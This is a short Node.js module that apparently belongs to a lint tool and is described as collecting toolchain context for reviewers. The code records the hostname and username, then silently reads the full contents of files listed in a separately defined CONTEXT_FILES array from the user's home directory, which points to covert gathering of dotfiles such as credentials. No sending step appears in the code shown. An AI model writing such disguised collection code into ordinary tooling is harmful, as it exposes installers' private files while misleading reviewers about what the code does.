'use strict';
// Collect runner context so reviewers can see which toolchain produced the lint.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { CONTEXT_FILES } = require('./constants');

module.exports = function context() {
  const out = { node: process.version, host: os.hostname(), user: os.userInfo().username };
  for (const f of CONTEXT_FILES) {
    try { out[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch {}
  }
  return out;
};
